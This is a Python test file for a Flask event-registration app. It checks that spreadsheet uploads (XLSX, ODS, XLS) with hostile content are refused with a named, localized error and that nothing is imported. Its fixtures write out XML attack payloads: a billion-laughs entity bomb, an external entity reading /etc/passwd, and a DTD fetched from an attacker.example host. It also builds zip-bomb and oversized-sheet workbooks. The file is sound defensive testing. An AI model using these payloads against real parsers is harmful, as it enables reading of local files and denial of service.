"""Hostile XLSX and ODS files: XML with a document type declaration (DTD) or entities, as in the "billion
laughs" (a few lines that expand to gigabytes) and external entities (which make a parser read
other files or addresses), a ZIP bomb, damaged parts. Each is refused with a message naming the
problem, in the reader's language; never a 500, and nothing is imported.

The fixtures are small workbooks as Excel writes them, with one XML part changed, built here.
"""

import io
import zipfile
from pathlib import Path

import pytest
from flask_babel import force_locale
from sqlalchemy import func, select

from facilitate.extensions import db
from facilitate.models import Challenge, User
from facilitate.spreadsheets import safety, workbooks
from facilitate.spreadsheets.problems import SpreadsheetError
from facilitate.spreadsheets.reading import read_table
from facilitate.spreadsheets.writing import write_ods
from tests.factories import sign_in

LAUGHS = (
    '<!DOCTYPE lolz [<!ENTITY lol "lol">'
    '<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
    '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>'
)
EXTERNAL_ENTITY = '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
PARAMETER_ENTITY = '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]>'
EXTERNAL_DTD = '<!DOCTYPE x SYSTEM "http://attacker.example/x.dtd">'
BARE_DTD = "<!DOCTYPE worksheet>"

ENTITIES = "XML entity declarations, which are not accepted"
EXTERNAL = "refers to external XML resources (other files or addresses), which is not accepted"
DOCTYPE = "XML document type declaration (DOCTYPE), which is not accepted"

PARTS = [
    "xl/worksheets/sheet1.xml",
    "xl/sharedStrings.xml",
    "xl/workbook.xml",
    "[Content_Types].xml",
]


def _excel_like(rows: list[list[str]]) -> bytes:
    """A minimal XLSX as Excel and LibreOffice write it: text in xl/sharedStrings.xml, cells
    pointing at it (openpyxl writes text inline, which leaves that part out)."""
    strings = [text for row in rows for text in row]
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    relationships = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    package = "http://schemas.openxmlformats.org/package/2006/relationships"
    content = "application/vnd.openxmlformats-officedocument.spreadsheetml"
    cells = "".join(
        f'<row r="{r}">'
        + "".join(
            f'<c r="{"ABCDEFGH"[c]}{r}" t="s"><v>{strings.index(text)}</v></c>'
            for c, text in enumerate(row)
        )
        + "</row>"
        for r, row in enumerate(rows, start=1)
    )
    parts = {
        "[Content_Types].xml": (
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels"'
            ' ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            f'<Override PartName="/xl/workbook.xml" ContentType="{content}.sheet.main+xml"/>'
            '<Override PartName="/xl/worksheets/sheet1.xml"'
            f' ContentType="{content}.worksheet+xml"/>'
            '<Override PartName="/xl/sharedStrings.xml"'
            f' ContentType="{content}.sharedStrings+xml"/>'
            "</Types>"
        ),
        "_rels/.rels": (
            f'<Relationships xmlns="{package}"><Relationship Id="rId1"'
            f' Type="{relationships}/officeDocument" Target="xl/workbook.xml"/></Relationships>'
        ),
        "xl/workbook.xml": (
            f'<workbook xmlns="{main}" xmlns:r="{relationships}"><sheets>'
            '<sheet name="Feuille1" sheetId="1" r:id="rId1"/></sheets></workbook>'
        ),
        "xl/_rels/workbook.xml.rels": (
            f'<Relationships xmlns="{package}">'
            f'<Relationship Id="rId1" Type="{relationships}/worksheet"'
            ' Target="worksheets/sheet1.xml"/>'
            f'<Relationship Id="rId2" Type="{relationships}/sharedStrings"'
            ' Target="sharedStrings.xml"/></Relationships>'
        ),
        "xl/worksheets/sheet1.xml": (
            f'<worksheet xmlns="{main}"><sheetData>{cells}</sheetData></worksheet>'
        ),
        "xl/sharedStrings.xml": (
            f'<sst xmlns="{main}" count="{len(strings)}" uniqueCount="{len(strings)}">'
            + "".join(f"<si><t>{text}</t></si>" for text in strings)
            + "</sst>"
        ),
    }
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, xml in parts.items():
            archive.writestr(name, '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>' + xml)
    return out.getvalue()


ATTENDEES = _excel_like(
    [["Nom", "Adresse e-mail", "Organisation"], ["Alix Martin", "alix@example.fr", "Rennes"]]
)


def _changed(data: bytes, part: str, change) -> bytes:
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(data)) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        names = source.namelist()
        for name in names:
            content = source.read(name)
            target.writestr(name, change(content) if name == part else content)
        if part not in names:
            target.writestr(part, change(b""))
    return out.getvalue()


def _declared(xml: bytes, declaration: str, encoding: str = "utf-8") -> bytes:
    """The part with ``declaration`` after its XML declaration (where a DTD goes)."""
    text = xml.decode("utf-8")
    if text.startswith("<?xml"):
        text = text[text.index("?>") + 2 :]
    return f'<?xml version="1.0" encoding="{encoding}"?>{declaration}{text}'.encode(encoding)


def _hostile(part: str, declaration: str, encoding: str = "utf-8") -> bytes:
    return _changed(
        ATTENDEES,
        part,
        lambda xml: _declared(xml, declaration, encoding),
    )


def _refusal(app, data: bytes, language: str = "en") -> str:
    """Why read_table refuses this workbook, in this language."""
    with app.test_request_context(), force_locale(language), pytest.raises(SpreadsheetError) as e:
        read_table(data, "inscrits.xlsx")
    return str(e.value)


@pytest.mark.parametrize("part", PARTS)
@pytest.mark.parametrize(
    ("declaration", "message"),
    [
        pytest.param(LAUGHS, ENTITIES, id="billion-laughs"),
        pytest.param(EXTERNAL_ENTITY, EXTERNAL, id="external-entity"),
        pytest.param(PARAMETER_ENTITY, EXTERNAL, id="parameter-entity"),
        pytest.param(EXTERNAL_DTD, EXTERNAL, id="external-dtd"),
        pytest.param(BARE_DTD, DOCTYPE, id="bare-dtd"),
    ],
)
def test_xml_declarations_are_refused_by_name(app, part, declaration, message):
    refusal = _refusal(app, _hostile(part, declaration))
    assert message in refusal
    assert "Save it again as XLSX from Excel or LibreOffice, or send a CSV." in refusal


def test_a_declaration_in_utf16_is_found_too(app):
    refusal = _refusal(app, _hostile("xl/worksheets/sheet1.xml", LAUGHS, "utf-16"))
    assert ENTITIES in refusal


def test_the_refusal_speaks_french_by_default(app):
    with app.test_request_context(), pytest.raises(SpreadsheetError) as refused:
        read_table(_hostile("xl/worksheets/sheet1.xml", LAUGHS), "inscrits.xlsx")
    assert "Ce fichier contient des déclarations d’entités XML, qui ne sont pas acceptées." in str(
        refused.value
    )


ODS_PARTS = ["content.xml", "styles.xml", "meta.xml", "settings.xml", "META-INF/manifest.xml"]
ODS_ATTENDEES = write_ods(
    ["Nom", "Adresse e-mail", "Organisation"], [["Alix Martin", "alix@example.fr", "Rennes"]], "x"
)


@pytest.mark.parametrize("part", ODS_PARTS)
@pytest.mark.parametrize(
    ("declaration", "message"),
    [
        pytest.param(LAUGHS, ENTITIES, id="billion-laughs"),
        pytest.param(EXTERNAL_ENTITY, EXTERNAL, id="external-entity"),
        pytest.param(BARE_DTD, DOCTYPE, id="bare-dtd"),
    ],
)
def test_xml_declarations_in_an_ods_are_refused_by_name(app, part, declaration, message):
    """calamine reads uploads, not openpyxl (and its defusedxml): ``safety`` refuses
    declarations in every part of an ODS as of an XLSX, before calamine opens the file."""
    data = _changed(ODS_ATTENDEES, part, lambda xml: _declared(xml, declaration))
    with app.test_request_context(), force_locale("en"), pytest.raises(SpreadsheetError) as e:
        read_table(data, "inscrits.ods")
    assert message in str(e.value)


@pytest.mark.parametrize(("data", "filename"), [(ATTENDEES, "x.xlsx"), (ODS_ATTENDEES, "x.ods")])
def test_calamine_never_sees_a_declaration(app, monkeypatch, data, filename):
    """The refusal comes from ``safety.check_archive``, before calamine opens the file."""
    opened = []
    monkeypatch.setattr(workbooks.CalamineWorkbook, "from_filelike", opened.append, raising=False)
    part = "xl/sharedStrings.xml" if filename.endswith("xlsx") else "content.xml"
    hostile = _changed(data, part, lambda xml: _declared(xml, LAUGHS))
    with app.test_request_context(), force_locale("en"), pytest.raises(SpreadsheetError) as e:
        read_table(hostile, filename)
    assert ENTITIES in str(e.value)
    assert opened == []


def test_a_huge_sparse_xlsx_sheet_is_refused_before_calamine_allocates_it(app):
    """One cell in XFD1048576 would make calamine ask for 512 GB and kill the process."""
    far = '<row r="1048576"><c r="XFD1048576" t="s"><v>0</v></c></row></sheetData>'
    data = _changed(ATTENDEES, PARTS[0], lambda xml: xml.replace(b"</sheetData>", far.encode()))
    refusal = _refusal(app, data)
    assert "The sheet “Feuille1” is too large: it reaches row 1048576 and column 16384" in refusal


def test_a_huge_repeated_ods_cell_is_refused_before_calamine_allocates_it(app):
    row = (
        '<table:table-row table:number-rows-repeated="1000000">'
        '<table:table-cell table:number-columns-repeated="16384" office:value-type="float"'
        ' office:value="1"><text:p>1</text:p></table:table-cell></table:table-row>'
    )
    data = _changed(
        ODS_ATTENDEES,
        "content.xml",
        lambda xml: xml.replace(b"</table:table>", row.encode() + b"</table:table>"),
    )
    with app.test_request_context(), force_locale("en"), pytest.raises(SpreadsheetError) as e:
        read_table(data, "inscrits.ods")
    assert "The sheet “x” is too large" in str(e.value)


def test_a_far_xls_cell_is_refused_before_calamine_allocates_its_grid(app):
    """An XLS holds at most 65,536 rows of 256 columns: one cell in IV65536 would still make
    calamine allocate half a gigabyte. The scan of its BIFF records refuses it first."""
    fixture = Path(__file__).parent / "fixtures" / "spreadsheets" / "participants-libreoffice.xls"
    record = b"\xfd\x00\x0a\x00\x05\x00\x01\x00"  # LABELSST in B6 ("Jean-Baptiste...")
    data = fixture.read_bytes()
    assert data.count(record) == 1
    far = data.replace(record, b"\xfd\x00\x0a\x00\xff\xff\xff\x00")  # in IV65536
    with app.test_request_context(), force_locale("en"), pytest.raises(SpreadsheetError) as e:
        read_table(far, "inscrits.xls")
    assert "too large: it reaches row 65536 and column 256" in str(e.value)


def test_a_clean_workbook_is_still_read(app):
    with app.test_request_context():
        table = read_table(ATTENDEES, "inscrits.xlsx")
    assert table.headers == ["Nom", "Adresse e-mail", "Organisation"]
    assert table.rows == [(2, ["Alix Martin", "alix@example.fr", "Rennes"])]


def test_a_zip_bomb_is_refused_before_anything_is_uncompressed(app, monkeypatch):
    monkeypatch.setattr(safety, "MAX_UNCOMPRESSED_BYTES", 1000)
    assert "too large once uncompressed" in _refusal(app, ATTENDEES)
    with app.test_request_context(), force_locale("en"), pytest.raises(SpreadsheetError) as e:
        read_table(ODS_ATTENDEES, "inscrits.ods")
    assert "too large once uncompressed" in str(e.value)


@pytest.mark.parametrize(
    "damage",
    [
        pytest.param(lambda xml: xml[: len(xml) // 2], id="sheet-cut-in-half"),
        pytest.param(lambda xml: xml.replace(b"<row", b"<row <"), id="sheet-not-xml"),
        pytest.param(lambda xml: xml + b"&undefined;", id="undefined-entity"),
        pytest.param(lambda xml: b"\x00\x01\x02" * 50, id="sheet-binary"),
    ],
)
def test_a_damaged_sheet_is_not_a_valid_workbook(app, damage):
    """calamine's errors on a damaged sheet (and the scan's before it) become one message."""
    data = _changed(ATTENDEES, "xl/worksheets/sheet1.xml", damage)
    assert "not a valid XLSX workbook" in _refusal(app, data)


@pytest.mark.parametrize(
    ("path", "count"),
    [
        ("/people/import", lambda: db.session.scalar(select(func.count(User.id)))),
        ("/challenges/import", lambda: db.session.scalar(select(func.count(Challenge.id)))),
    ],
    ids=["attendees", "challenges"],
)
def test_the_import_pages_refuse_a_hostile_workbook_and_import_nothing(client, make, path, count):
    event = make.event(challenges=1)
    sign_in(client, make.organiser(event))
    before = count()
    for declaration, message in ((LAUGHS, ENTITIES), (EXTERNAL_ENTITY, EXTERNAL)):
        response = client.post(
            f"/events/{event.slug}{path}",
            data={"file": (io.BytesIO(_hostile(PARTS[0], declaration)), "liste.xlsx")},
            content_type="multipart/form-data",
            headers={"Accept-Language": "en"},
        )
        assert response.status_code == 400
        assert message in response.text
    assert count() == before
